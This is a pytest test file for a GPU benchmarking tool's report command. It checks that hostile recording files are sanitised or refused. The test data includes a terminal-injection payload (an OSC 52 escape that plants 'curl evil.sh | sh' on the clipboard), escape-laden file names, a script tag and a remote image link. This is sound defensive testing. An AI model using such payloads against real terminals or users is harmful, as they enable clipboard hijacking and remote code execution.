"""``gpudash report`` reads hostile files as ``gpudash replay`` does, with the same reader (issue 23,
causes 9 and 14): a CSV with a huge line or field is refused in one line with exit 2 (replay
skips the same record), metadata nested 200 000 deep is ignored with a note (as in replay), and
no control character from a file (CSV cells, metadata strings, file names) reaches report.md,
report.html or the terminal: a ``cat report.md`` runs no escape sequence."""

from __future__ import annotations

import base64
import dataclasses
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gpudash.cli.main import main
from gpudash.core.protocol import Event, EventKind, ExitCode
from gpudash.recording.csvformat import event_row, format_row, header, sample_row
from gpudash.recording.replay import NotARecording, ReplaySource, read_all
from tests.test_report import sweep_files
from tests.tui.fakes import gpu, sample

ROOT = Path(__file__).resolve().parent.parent
FIXTURE = ROOT / "tests" / "tui" / "data" / "replay.csv"  # encdec on an H100: three changes
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # C0 (a line feed aside), DEL, C1
# What a terminal would act on: OSC 52 (puts "curl evil.sh | sh" on the clipboard), colours, a C1
# CSI that clears the screen, NUL, DEL, NEL; then printable text, which must stay.
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.sh | sh").decode() + "\x07"
HOSTILE = OSC52 + "\x1b[31mred\x1b[0m\x9b2J\x00\x7f\x85 → ok"
HOSTILE_NAME = "run\x1b]52;c;aGk=\x07\x1b[31m\x9b2J.csv"  # a file name can hold all but NUL and /


def report(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, list[str]]:
    """``gpudash report ARGS`` as a user runs it: its exit status and its stderr lines."""
    try:
        code = main(["report", *map(str, args)])
    except SystemExit as exc:  # argparse
        code = int(exc.code or 0)
    return code, capsys.readouterr().err.splitlines()


def assert_clean(text: str) -> None:
    found = CONTROL.search(text)
    assert found is None, (
        f"{found.group()!r} at {found.start()}: {text[max(0, found.start() - 40) : found.end() + 40]!r}"
    )


def assert_no_traceback(err: list[str]) -> None:
    assert err and all(line.startswith("gpudash: ") for line in err), err
    assert_clean("\n".join(err))


# -- building hostile files ---------------------------------------------------------------------------
def recording(
    directory: Path, name: str = "run.csv", events: tuple[Event, ...] = (), meta: object = None, **fields: Any
) -> Path:
    """A short recording as gpudash writes one: 40 samples (with ``fields`` replaced: any Sample field,
    any value, hostile ones included) and their GPU readings, ``events`` in time order among them;
    ``meta`` (JSON-encoded; a str as is) beside it."""
    timed = [
        (i * 0.25, sample_row(dataclasses.replace(sample(i * 0.25, 100.0 + i % 3), **fields), gpu(i * 0.25)))
        for i in range(1, 41)
    ]
    timed += [(e.time_s, event_row(e)) for e in events]
    path = directory / name
    path.write_text(
        format_row(header()) + "".join(format_row(row) for _, row in sorted(timed, key=lambda r: r[0])),
        encoding="utf-8",
    )
    if meta is not None:
        path.with_suffix(".json").write_text(meta if isinstance(meta, str) else json.dumps(meta), encoding="utf-8")
    return path


def fixture_meta(**changes: object) -> dict[str, object]:
    """The fixture's metadata (it passes every check) with ``changes``."""
    return {**json.loads(FIXTURE.with_suffix(".json").read_text()), **changes}


def hostile_sweep(directory: Path) -> Path:
    """A finished sweep whose second configuration's label and whose status are hostile."""
    path = sweep_files(directory / "sweep", 75.0)
    path.write_text(path.read_text().replace(",fixed,", f",fixed{HOSTILE},"))
    meta = json.loads(path.with_suffix(".json").read_text())
    path.with_suffix(".json").write_text(json.dumps({**meta, "status": HOSTILE}))
    return path


# -- cause 14: no escape sequence from a file reaches a report or the terminal ----------------------------
# (where the text goes, the file that puts HOSTILE there, whether report.md shows its printable rest)
PLACES: list[tuple[str, Callable[[Path], Path], bool]] = [
    ("workload", lambda d: recording(d, workload="encdec" + HOSTILE), True),
    ("variant", lambda d: recording(d, variant=HOSTILE), True),
    ("knobs", lambda d: recording(d, knobs="amp=bf16" + HOSTILE), True),
    ("change-marker", lambda d: recording(d, events=(Event(5.0, EventKind.CHANGED, "variant", HOSTILE, "x"),)), False),
    ("crash-message", lambda d: recording(d, events=(Event(10.1, EventKind.CRASHED, message=HOSTILE),)), True),
    ("trace-message", lambda d: recording(d, events=(Event(5.0, EventKind.MEASURED, "trace", message=HOSTILE),)), True),
    ("gpu-name", lambda d: recording(d, meta=fixture_meta(gpu_name=HOSTILE, gpu_names=[HOSTILE])), True),
    ("torch-and-start", lambda d: recording(d, meta=fixture_meta(torch_version=HOSTILE, start_time=HOSTILE)), True),
    ("file-name", lambda d: recording(d, name=HOSTILE_NAME), False),
    ("sweep-label-and-status", hostile_sweep, True),
]


@pytest.mark.parametrize("make, shown", [p[1:] for p in PLACES], ids=[p[0] for p in PLACES])
def test_no_control_character_from_a_file_reaches_the_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], make: Callable[[Path], Path], shown: bool
) -> None:
    code, err = report(capsys, make(tmp_path), "--out", tmp_path / "out", "--html")
    assert code == ExitCode.OK, err
    assert_no_traceback(err)
    md = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    assert_clean(md)
    for drawn in ("report.html", "report.svg"):  # the SVG quotes every label in a comment
        assert_clean((tmp_path / "out" / drawn).read_text(encoding="utf-8"))
    assert not shown or "[31mred[0m2J → ok" in md  # the printable rest is kept


def test_a_refusal_quotes_no_control_character(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / HOSTILE_NAME
    bad.write_text("a,b\n1,2\n")
    code, err = report(capsys, FIXTURE, bad, "--out", tmp_path / "out")
    assert code == ExitCode.USAGE
    (line,) = err
    assert_clean(line)
    assert line.startswith("gpudash: error: ") and "[31m2J.csv is not a gpudash CSV" in line


def test_invalid_utf8_reads_as_replacement_characters_as_in_replay(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = recording(tmp_path, variant="serial\U0010ffff")  # a placeholder, made invalid below
    path.write_bytes(path.read_bytes().replace("\U0010ffff".encode(), b"\xff\x9b[2J"))
    code, err = report(capsys, path, "--out", tmp_path / "out")
    assert code == ExitCode.OK, err
    md = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    assert "encdec/serial\ufffd\ufffd[2J bs8" in md
    assert {m.variant for m in read_all(ReplaySource(path)) if hasattr(m, "variant")} == {"serial\ufffd\ufffd[2J"}


MARKUP = [  # text that a renderer would act on: raw HTML, a remote image, mathtext that fails to parse
    (
        "html-and-a-remote-image",
        Event(10.1, EventKind.CRASHED, message="<script>alert(1)</script> ![x](https://evil.example/x.png)"),
    ),
    ("mathtext", Event(5.0, EventKind.CHANGED, "variant", "serial", r"$\notacommand$")),
]


@pytest.mark.parametrize("event", [e for _, e in MARKUP], ids=[n for n, _ in MARKUP])
def test_markup_in_a_file_is_shown_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str], event: Event) -> None:
    code, err = report(capsys, recording(tmp_path, events=(event,)), "--out", tmp_path / "out", "--html")
    assert code == ExitCode.OK, err
    page = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page and 'evil.example/x.png"' not in page and "<img" not in page


# -- cause 9: huge lines and fields, deep nesting -------------------------------------------------------------
def with_line(line: int, text: str) -> Callable[[Path], Path]:
    """The fixture with ``text`` inserted as its line ``line`` (1: in place of the header)."""

    def make(directory: Path) -> Path:
        lines = FIXTURE.read_text().splitlines(keepends=True)
        path = directory / "hostile.csv"
        path.write_text("".join(lines[: line - 1]) + text + "\n" + "".join(lines[line - 1 if line > 1 else 1 :]))
        return path

    return make


# (what the file holds, the file, what report and replay both say of it)
BROKEN: list[tuple[str, Callable[[Path], Path], str]] = [
    ("a-3-MiB-line", with_line(11, "x" * (3 << 20)), "line 11 is longer than 1 MiB"),
    (
        "a-500-kB-field",
        with_line(11, format_row(event_row(Event(2.6, EventKind.ERROR, message="y" * 500_000))).rstrip("\n")),
        "line 11 is not CSV: field larger than field limit (131072)",
    ),
    (
        "a-quote-never-closed",
        with_line(11, 'sample,2.6,"encdec' + "z" * 200_000),
        "line 11 opens a quote it never closes",
    ),
    ("a-3-MiB-header", with_line(1, "row_kind," + "x" * (3 << 20)), "line 1 is longer than 1 MiB"),
]


@pytest.mark.parametrize("make, says", [b[1:] for b in BROKEN], ids=[b[0] for b in BROKEN])
def test_report_refuses_in_one_line_the_record_replay_skips(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], make: Callable[[Path], Path], says: str
) -> None:
    path = make(tmp_path)
    code, err = report(capsys, path, "--out", tmp_path / "out")
    assert code == ExitCode.USAGE
    assert err == [f"gpudash: error: {path}: {says}"]
    assert not (tmp_path / "out").exists()
    src = ReplaySource(path)  # the same reader: the same record, skipped (before the header: refused)
    if "line 1 " in says:
        with pytest.raises(NotARecording, match=re.escape(f"not a gpudash recording ({says})")):
            src.start()
    else:
        read_all(src)
        assert src.bad_rows == 1 and src.rows_read > 0


SIDECARS = [  # metadata report ignores, as replay does, with the reason in a note
    ("200000-brackets", "[" * 200_000, "nested too deeply"),
    (
        "40-levels",
        json.dumps(fixture_meta(later={"a": json.loads("[" * 40 + "]" * 40)})),
        "nested too deeply (more than 16 levels)",
    ),
    ("not-json", "{oops", "not JSON"),
    ("a-bad-value", json.dumps(fixture_meta(gpu_index="0\x1b[31m")), "gpu_index is a string, not a whole number"),
]


@pytest.mark.parametrize("text, why", [s[1:] for s in SIDECARS], ids=[s[0] for s in SIDECARS])
def test_bad_metadata_is_ignored_with_a_note(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, why: str
) -> None:
    code, err = report(capsys, recording(tmp_path, meta=text), "--out", tmp_path / "out")
    assert code == ExitCode.OK, err
    assert_no_traceback(err)
    assert err[0].startswith(f"gpudash: warning: run.json ignored: {why}") and err[1].startswith("gpudash: wrote ")
    md = (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
    assert f"*Note: run.json ignored: {why}" in md and "| 1 | `" in md and "| recording | ? | ? | ? |" in md
    src = ReplaySource(tmp_path / "run.csv")  # replay says the same
    src.start()
    src.stop()
    assert src.info.notes[0].startswith(f"run.json ignored: {why}")


def test_the_reading_path_stays_torch_free(tmp_path: Path) -> None:
    deep = recording(tmp_path, "deep.csv", variant=HOSTILE, meta="[" * 200_000)
    checked = recording(tmp_path, "checked.csv", variant=HOSTILE, meta=fixture_meta(gpu_name=HOSTILE))  # every check
    code = (
        "import sys; from gpudash.report.load import load_run; runs = [load_run(p) for p in sys.argv[1:]]; "
        "print(runs[0].notes, runs[1].meta['gpu_name'], 'torch' in sys.modules)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(deep), str(checked)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode == 0, done.stderr
    assert "deep.json ignored: nested too deeply" in done.stdout and "2J → ok" in done.stdout
    assert done.stdout.split()[-1] == "False"


@pytest.mark.parametrize("value", [None, float("nan"), float("inf")], ids=["empty", "nan", "inf"])
def test_a_sample_without_a_finite_interval_is_refused_in_one_line_and_skipped_by_replay(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], value: float | None
) -> None:
    """A throughput's time span is its interval: a row without one cannot be averaged (it was a
    TypeError traceback deep in the statistics)."""
    path = recording(tmp_path)
    good = recording(tmp_path, name="bad.csv", interval_s=value).read_text().splitlines(keepends=True)
    lines = path.read_text().splitlines(keepends=True)
    path.write_text("".join(lines[:5] + good[5:6] + lines[6:]))  # line 6: the row without an interval
    code, err = report(capsys, path, "--out", tmp_path / "out")
    assert code == ExitCode.USAGE
    assert err == [f"gpudash: error: {path}: line 6: interval_s is empty or not a finite number"]
    src = ReplaySource(path)
    read_all(src)
    assert src.bad_rows == 1 and src.rows_read == 39


def test_figures_near_the_largest_float_give_a_report_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """1e308 steps/s: the interval overflows (its mean and half-width are not finite numbers);
    the report says "no CI" for it instead of failing, and no warning reaches the terminal."""
    code, err = report(capsys, recording(tmp_path, steps_per_s=1e308), "--out", tmp_path / "out")
    assert code == ExitCode.OK and err == [f"gpudash: wrote report.md, report.png, report.svg in {tmp_path / 'out'}"]
    assert "(no CI)" in (tmp_path / "out" / "report.md").read_text(encoding="utf-8")
